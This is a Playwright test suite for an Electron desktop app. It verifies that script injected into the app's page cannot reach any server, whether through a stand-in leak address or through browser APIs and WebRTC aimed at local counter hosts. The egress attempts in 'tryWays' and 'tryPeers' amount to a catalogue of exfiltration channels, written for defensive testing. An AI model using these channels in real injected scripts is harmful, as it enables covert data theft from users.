import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, type Page } from '@playwright/test'
import type { EnvironmentDraft } from '../../preload/contract/settings.ts'
import { openCounter } from '../main/service/network/counter.ts'
import { closeServers, serveProxy } from '../main/service/network/servers.ts'
import { answerBoxes, shownBoxes } from './steps.ts'
import { test, type World } from './world.ts'

test.afterEach(closeServers)

const leak = 'https://what-the-baker-owes.leak.example/7/4711'
const draft: EnvironmentDraft = {
  kind: 'test',
  name: 'Taken over',
  baseAddress: leak,
  clientId: 'c',
  secret: 's',
  redirectUri: 'https://desk.example/cb',
  scope: 'all',
  pathStyle: 'standard',
  status: 'unknown',
  lockMinutes: null,
  askAbove: null,
}
/** A script in our page, which can make all of the page's calls. */
const tryHost = (page: Page): Promise<(string | undefined)[]> =>
  page.evaluate(async (one) => {
    const tested = await window.api.settings.testStep(one, 'address', '')
    const saved = await window.api.settings.saveEnvironment(one)
    return [tested.ok ? tested.value.fail?.code : tested.fail.code, saved.ok ? 'saved' : saved.fail.code]
  }, draft)

test("a script in our page sends nothing to a host that the person does not confirm in main's dialog", async ({
  world,
}) => {
  test.skip(
    process.env['LEDGERDESK_E2E_HOST'] === 'electron',
    'the proxy is named in the environment, which only the stand-in reads',
  )
  const proxy = await serveProxy({ leads: {} })
  const app = await world.open({ LEDGERDESK_STAND_IN_PROXY: `PROXY localhost:${proxy.port}` })
  await answerBoxes(app, 0)
  expect(await tryHost(app.page)).toEqual(['address-not-confirmed', 'address-not-confirmed'])
  expect(proxy.asked).toEqual([])
  const boxes = await shownBoxes(app)
  expect(
    boxes.map(({ message, detail, buttons, defaultId, cancelId }) => [
      message,
      detail.split('\n')[0],
      buttons[defaultId],
      buttons[cancelId],
    ]),
  ).toEqual(
    Array.from({ length: 2 }, () => ['Is this the address of your service?', new URL(leak).origin, 'Cancel', 'Cancel']),
  )

  await answerBoxes(app, 1)
  expect(await tryHost(app.page)).toEqual(['connecting-unreachable', 'saved'])
  expect((await shownBoxes(app)).length).toBe(1)
  expect(proxy.asked.map(({ to }) => to)).toContain(`${new URL(leak).host}:443`)
})

/** Each way of a page to fetch, look up or call, except WebRTC. Waits for the end of those that report one. */
const tryWays = async (page: Page, port: number): Promise<void> =>
  page.evaluate(async (port) => {
    let count = 0
    const host = (): string => `what-the-baker-owes-${++count}.localhost:${port}`
    const ended: Promise<unknown>[] = []
    const put = <T extends HTMLElement>(element: T, attributes: Readonly<Record<string, string>>, says = true): T => {
      if (says)
        ended.push(
          new Promise((done) =>
            ['load', 'error', 'securitypolicyviolation'].forEach((type) => element.addEventListener(type, done)),
          ),
        )
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      return document.head.appendChild(element)
    }
    const tried = (what: () => unknown): void =>
      void ended.push(
        Promise.resolve()
          .then(what)
          .catch(() => undefined),
      )
    for (const rel of ['stylesheet', 'preload', 'modulepreload'])
      put(document.createElement('link'), {
        rel,
        href: `https://${host()}/`,
        as: rel === 'preload' ? 'image' : 'script',
      })
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'icon', 'manifest'])
      put(document.createElement('link'), { rel, href: `https://${host()}/` }, false)
    put(document.createElement('img'), { src: `https://${host()}/` })
    put(document.createElement('video'), { src: `https://${host()}/` })
    put(document.createElement('iframe'), { src: `https://${host()}/` }, false)
    tried(() => put(document.createElement('object'), { data: `https://${host()}/` }, false))
    put(document.createElement('meta'), { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }, false)
    put(document.createElement('div'), {}, false).style.backgroundImage = `url(https://${host()}/)`
    put(document.createElement('form'), { action: `https://${host()}/`, method: 'post' }, false).submit()
    put(document.createElement('a'), { href: '#here', ping: `https://${host()}/` }, false).click()
    put(document.createElement('a'), { href: `https://${host()}/`, target: '_blank' }, false).click()
    tried(() => fetch(`https://${host()}/`))
    tried(() => fetch(`https://${host()}/`, { mode: 'no-cors', keepalive: true }))
    tried(() => navigator.sendBeacon(`https://${host()}/`, 'x'))
    tried(() => new FontFace('x', `url(https://${host()}/)`).load())
    tried(() => new WebTransport(`https://${host()}/`).ready)
    tried(() => new Worker(`https://${host()}/`))
    tried(() => navigator.serviceWorker.register(`https://${host()}/`))
    tried(() => window.open(`https://${host()}/`))
    for (const make of [
      (address: string) => new WebSocket(`wss://${address}/`),
      (address: string) => new EventSource(`https://${address}/`),
    ])
      tried(() => new Promise((done) => (make(host()).onerror = done)))
    tried(() =>
      put(document.createElement('script'), { type: 'speculationrules' }, false).append(
        JSON.stringify({ prefetch: [{ source: 'list', urls: [`https://${host()}/`], eagerness: 'immediate' }] }),
      ),
    )
    await Promise.all(ended)
  }, port)

/**
 * WebRTC by STUN and TURN over TCP, from the page or an empty frame. True if it ended normally, false if Chromium ended
 * the page.
 */
const tryPeers = (page: Page, port: number, from: 'page' | 'frame'): Promise<boolean> => {
  const trying = page.evaluate(
    async ([port, from]) => {
      const { RTCPeerConnection: Peer } =
        from === 'page'
          ? window
          : (document.body.appendChild(document.createElement('iframe')).contentWindow as unknown as typeof window)
      const turn = (host: string) => ({
        urls: `turn:${host}:${port}?transport=tcp`,
        username: 'what-the-baker-owes',
        credential: 'x',
      })
      for (const server of [
        { urls: `stun:127.0.0.1:${port}` },
        turn('127.0.0.1'),
        turn('what-the-baker-owes.localhost'),
      ]) {
        const peer = new Peer({ iceServers: [server] })
        const gathered = new Promise(
          (done) => (peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done(null)),
        )
        peer.createDataChannel('x')
        await peer.setLocalDescription(await peer.createOffer())
        await gathered
        peer.close()
      }
      return true
    },
    [port, from] as const,
  )
  return Promise.race([trying.catch(() => false), page.waitForEvent('crash', { timeout: 0 }).then(() => false)])
}

/** Each way of a page to leave. Chromium shows an error page instead, and the app reopens its own. */
const waysToLeave = {
  'an address': (address: string) => void (location.href = address),
  'a link': (address: string) =>
    Object.assign(document.body.appendChild(document.createElement('a')), { href: address }).click(),
  'a download': (address: string) =>
    Object.assign(document.body.appendChild(document.createElement('a')), { href: address, download: 'x' }).click(),
} as const

test('a script in our page reaches no server by leaving, also when the page is reopened', async ({ world }) => {
  const { came, port, stop } = await openCounter()
  const app = await world.open()
  // After the third time in a minute a person decides whether to reopen it.
  await answerBoxes(app, 0)
  for (const leave of Object.values(waysToLeave)) {
    await app.page.evaluate(() => Object.assign(window, { isBefore: true }))
    await app.page.evaluate(`(${leave.toString()})('https://what-the-baker-owes.localhost:${port}/')`)
    await app.page.waitForFunction(() => !('isBefore' in window) && document.querySelector('main') !== null)
  }
  expect((await shownBoxes(app)).map(({ message }) => message)).toEqual(['The window keeps stopping.'])
  await app.close()
  expect(came).toEqual({ connections: 0, packets: 0 })
  stop()
})

test('a window of ours reaches no server, whoever loads a page in it', async ({ world }) => {
  const { came, port, stop } = await openCounter()
  const app = await world.open()
  const load = (address: string): Promise<string> =>
    app.electron.evaluate(
      ({ BrowserWindow }, address) =>
        BrowserWindow.getAllWindows()[0]!
          .webContents.loadURL(address)
          .then(
            () => 'loaded',
            () => 'refused',
          ),
      address,
    )
  expect([
    await load(`http://what-the-baker-owes.localhost:${port}/`),
    await load(`https://what-the-baker-owes.localhost:${port}/`),
  ]).toEqual(['refused', 'refused'])
  await app.close()
  expect(came).toEqual({ connections: 0, packets: 0 })
  // Only the first request is logged.
  expect(
    readFileSync(join(world.computer.profile, 'logs', 'ledgerdesk.log'), 'utf8').match(/"page-request-refused"/g),
  ).toHaveLength(1)
  stop()
})

test('a script in our page reaches no server by any API of the browser', async ({ world }) => {
  const { came, port, stop } = await openCounter()
  const app = await world.open()
  const before = app.page.url()
  await tryWays(app.page, port)
  expect(app.page.url().split('#')[0]).toBe(before.split('#')[0])
  await app.close()
  expect(came).toEqual({ connections: 0, packets: 0 })
  stop()
})

const peersReachNobody = async (world: World, from: 'page' | 'frame'): Promise<void> => {
  const { came, port, stop } = await openCounter()
  const app = await world.open()
  await tryPeers(app.page, port, from)
  await app.close()
  expect(came).toEqual({ connections: 0, packets: 0 })
  stop()
}

test('a script in our page reaches no server by WebRTC', async ({ world }) => peersReachNobody(world, 'page'))

test('a script in our page reaches no server by WebRTC from an empty frame', async ({ world }) =>
  peersReachNobody(world, 'frame'))
